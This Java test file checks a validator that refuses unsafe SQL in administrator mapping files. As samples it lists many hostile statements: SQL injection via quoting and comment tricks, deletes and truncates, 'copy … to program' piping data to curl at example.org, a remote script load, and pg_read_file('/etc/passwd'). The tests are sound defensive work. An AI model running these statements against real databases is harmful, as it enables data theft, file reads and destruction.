package jp.tsunagi.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import jp.tsunagi.register.Register;
import jp.tsunagi.register.RegisterReader;
import jp.tsunagi.routing.LintFinding;
import jp.tsunagi.routing.StatementCheck;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What someone who may write to {@code mappings/} could try: each is refused before a database sees it. */
class StatementsThatAttackTest {
    private static final SqlPermit PERMIT =
            new SqlPermit(Set.of("recipient", "public.voucher"), SqlPermit.NONE.closed());

    @TempDir
    Path folder;

    /** In the hands of the database these would do more than read. */
    static Stream<String> queries() {
        return Stream.of(
                // what one database takes for a text, and another for statements
                "select E'\\'; delete from recipient; --'",
                "select e'\\'' || pg_sleep(9) || '",
                "select U&'\\0027' || pg_sleep(9) || '",
                "select U&\"d!0061t!+000061\" UESCAPE '!' from t",
                "select 'a\\' || pg_sleep(9) || '",
                "select $$'$$; delete from recipient; select $$'$$",
                "select $tag$'$tag$; delete from recipient; --$tag$",
                "select 1 // '\n; delete from recipient",
                "select /* /* */ 1; delete from recipient /* */ */",
                "select /* ' */ 1; delete from recipient; select ' */ '",
                "select 1 -- x\rinto outfile",
                "select `a` from t",
                "select 1 # '\n, pg_sleep(9)",
                "select [a] from t",
                "select {fn pg_sleep(9)}",
                "select @a := 1",
                "select 1pg_sleep(9)",
                "select 1\u00a0from t",
                "select a from t where a = ?",
                // more than one statement, or one that goes on outside its parentheses
                "select 1; delete from recipient",
                "select 1) to program 'id'; select (1",
                "select 1) to program 'id' (format 'csv'",
                "select (1",
                // statements that write
                "select * into copy_of_recipient from recipient",
                "with x as (delete from recipient returning *) select * from x",
                "with x as (insert into recipient values (1) returning *) select * from x",
                "with x as (update recipient set name = '' returning *) select * from x",
                "select * from final table (insert into recipient (name) values ('x'))",
                "select * from recipient for update",
                "select * from recipient for no key update",
                "select * from recipient for share",
                "copy recipient to program 'curl -d @- http://example.org'",
                "table recipient",
                "values (1)",
                "explain analyze delete from recipient",
                "do 'begin delete from recipient; end'",
                "call csvwrite('/tmp/x', 'select 1')",
                "runscript from 'http://example.org/x.sql'",
                "script to '/tmp/x'",
                "create alias shell as 'void x() {}'",
                "set search_path = evil",
                // functions with effects, however they are named
                "select pg_sleep(9)",
                "select pg_sleep (9)",
                "select pg_sleep -- now\n (9)",
                "select PG_SLEEP(9)",
                "select \"pg_sleep\"(9)",
                "select pg_catalog.pg_sleep(9)",
                "select public.lower('x')",
                "select 'x'pg_sleep(9)",
                "select * from pg_read_file('/etc/passwd')",
                "select pg_read_binary_file('/etc/passwd')",
                "select * from pg_ls_dir('/')",
                "select lo_import('/etc/passwd')",
                "select lo_export(1, '/tmp/x')",
                "select * from dblink('host=example.org', 'select 1') as t(a int)",
                "select dblink_exec('delete from recipient')",
                "select set_config('search_path', 'evil', false)",
                "select pg_terminate_backend(1)",
                "select pg_advisory_lock(1)",
                "select pg_notify('a', 'b')",
                "select query_to_xml('delete from recipient', true, true, '')",
                "select nextval('voucher_id')",
                "select setval('voucher_id', 1)",
                "select next value for voucher_id",
                "select voucher_id.nextval",
                "select file_read('/etc/passwd')",
                "select file_write('x', '/tmp/x')",
                "select * from csvread('/etc/passwd')",
                "select csvwrite('/tmp/x', 'select 1')",
                "select * from link_schema('a', '', 'jdbc:x', 'sa', '', 'public')",
                "select database_to_upper()",
                "select abort_session(1)",
                "select memory_used()",
                "select operator(pg_catalog.+)(1, pg_sleep(9))",
                // a personal number in a wider form, and what repeats values of any column
                "select '9' || number from personal_number",
                "select p.* from recipient r join public.personal_number p on p.recipient_id = r.recipient_id",
                "select '9' || number from PERSONAL_NUMBER",
                "select '9' || number from per\u017fonal_number",
                "select '9' || number from \"personal_number\"",
                "select n from (select a as n from welfare_reference) x",
                "select 1 where exists (select 1 from Welfare_Reference)",
                "select histogram_bounds from pg_stats",
                "select value from information_schema.settings");
    }

    @ParameterizedTest
    @MethodSource("queries")
    void aQueryDoesNothingButRead(String text) throws IOException {
        assertThat(fault(text)).isTrue();
    }

    static Stream<String> scripts() {
        return Stream.concat(
                queries().filter(text -> !text.startsWith("select") && !text.startsWith("with")),
                Stream.of(
                        "delete from personal_number",
                        "delete from other.recipient",
                        "delete from voucher",
                        "delete from \"Recipient\"",
                        "delete from \"public.voucher\"",
                        "delete from only personal_number",
                        "delete recipient",
                        "update personal_number set number = null",
                        "update recipient set name = pg_read_file('/etc/passwd')",
                        "update recipient set name = E'\\'' where name = '; delete from personal_number; --'",
                        "update only personal_number set number = null",
                        "insert into personal_number values (1)",
                        "insert recipient values (1)",
                        "insert into tsunagi_applied values (1)",
                        "insert into recipient select * from csvread('/etc/passwd')",
                        "insert into recipient with x as (delete from voucher returning *) select * from x",
                        "insert into recipient select * from final table (delete from voucher)",
                        "insert into recipient (name) values (nextval('voucher_id'))",
                        "insert into pg_sleep(9)",
                        "merge into personal_number t using recipient r on (true) when matched then delete",
                        "merge into recipient t using (select pg_sleep(9)) n on (true) when matched then delete",
                        "merge into recipient t using (delete from voucher returning *) n on (true) when matched then delete",
                        "with x as (select 1) delete from recipient",
                        "truncate recipient",
                        "drop table recipient",
                        "alter table recipient add x int",
                        "grant all on recipient to public",
                        "commit",
                        "rollback",
                        "select 1",
                        "delete from recipient; truncate voucher",
                        "delete from recipient where a in (select 1"));
    }

    @ParameterizedTest
    @MethodSource("scripts")
    void statementsChangeOnlyTheRowsOfTheTablesOfTheirLinkage(String text) throws IOException {
        assertThat(faultOfScript(text)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "delete from recipient where name = 'it''s; delete' -- ; drop\n",
                "insert into recipient (name) values (upper('x')); delete from arrived",
                "insert into public.voucher (name) select max(name) from recipient",
                "insert into recipient (a) values (1) on conflict (a) do update set b = 2",
                "merge into recipient t using arrived a on (t.id = a.id) when matched then update set x = 1 "
                        + "when not matched then insert (x) values (1)",
                "update \"recipient\" set name = :businessDate",
            })
    void statementsThatKeepToTheirTablesAreTaken(String text) throws IOException {
        assertThat(Script.read(file(text), PERMIT)).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "select cast(a as numeric(3, 1)) from t where b in (1, 2) and exists (select 1 from u)",
                "with a as (select 1 as x), b as materialized (select 2 as x) select x from a union all (select x from b)",
                "select \"名\", max(x) over (partition by y) from t as n (x, y) where z = '; update'",
                "select a::varchar(3) from t where b >= :from and c like '%$$%'",
            })
    void queriesAsAdministratorsWriteThemAreTaken(String text) throws IOException {
        assertThat(Query.readAny(file(text), PERMIT)).isNotNull();
    }

    @Test
    void everyShippedStatementIsTaken() {
        Register register = RegisterReader.read(Path.of("config")).register().orElseThrow();
        assertThat(new StatementCheck(register).check(Path.of("mappings"))).isEmpty();
    }

    @Test
    void personalNumbersAreReadOnlyByTheLinkagesThatTheRegisterNames() throws IOException {
        String shipped = Files.readString(Path.of("config/linkages.yaml"));
        Path config = Files.createDirectories(folder.resolve("config"));
        Files.copy(Path.of("config/provisions.yaml"), config.resolve("provisions.yaml"));
        Files.writeString(
                config.resolve("linkages.yaml"),
                shipped.replace("reads: [ personal_number, welfare_reference ]", "reads: [ kojin.number_view ]"));
        Register register = RegisterReader.read(config).register().orElseThrow();
        String text = "select n\nfrom ";

        assertThat(lines(register, "eligibility/eligibility-out.sql", text + "personal_number"))
                .isEmpty();
        assertThat(lines(register, "checkup/checkup-in/quarantine.sql", text + "personal_number"))
                .isEmpty();
        assertThat(lines(register, "address/address-view/attach.sql", text + "personal_number"))
                .as("what it changes")
                .isEmpty();
        assertThat(lines(register, "address/address-view.sql", text + "NUMBER_VIEW"))
                .isEmpty();
        assertThat(lines(register, "address/address-view.sql", text + "welfare_reference"))
                .containsExactly(2);
        for (String relation : List.of("personal_number", "welfare_reference", "number_view")) {
            for (String file : List.of("person/way.sql", "usage/checks.sql", "voucher/voucher-out/people.sql")) {
                assertThat(lines(register, file, text + relation)).containsExactly(2);
            }
        }
    }

    private List<Integer> lines(Register register, String name, String text) throws IOException {
        Path file = folder.resolve("mappings").resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
        Mappings mappings =
                new Mappings(folder.resolve("mappings"), Duration.ofMinutes(1), of -> SqlPermit.of(register, of));
        List<Integer> atRunTime = new ArrayList<>();
        try {
            mappings.query(name);
        } catch (MappingFault fault) {
            atRunTime.add(fault.line());
        }
        assertThat(new StatementCheck(register)
                        .check(file).stream().map(LintFinding::line).toList())
                .isEqualTo(atRunTime);
        return atRunTime;
    }

    @Test
    void aFaultNamesTheLineAndWhatToDo() throws IOException {
        Path file = file("-- ok\nselect a\nfrom b\nwhere pg_sleep(1)\n");
        assertThat(SqlCheck.fault(file, SqlPermit.NONE)).hasValueSatisfying(fault -> {
            assertThat(fault.line()).isEqualTo(4);
            assertThat(fault.what()).contains("pg_sleep");
            assertThat(fault.mend()).isNotBlank();
        });
    }

    @Test
    void theAdministratorsPageNamesEveryFunction() throws IOException {
        String page = Files.readString(Path.of("src/site/administrator.md"));
        int from = page.indexOf("They call only these functions: `");
        String named = page.substring(page.indexOf('`', from) + 1, page.indexOf("`.", from));

        assertThat(named.split("\\s+")).containsExactlyInAnyOrderElementsOf(SqlWords.functions());
    }

    private boolean fault(String text) throws IOException {
        Path file = file(text);
        try {
            Query.readAny(file, PERMIT);
            return false;
        } catch (MappingFault fault) {
            return true;
        }
    }

    private boolean faultOfScript(String text) throws IOException {
        Path file = file(text);
        try {
            Script.read(file, PERMIT);
            return false;
        } catch (MappingFault fault) {
            return true;
        }
    }

    private Path file(String text) throws IOException {
        return Files.writeString(folder.resolve("statement.sql"), text);
    }
}
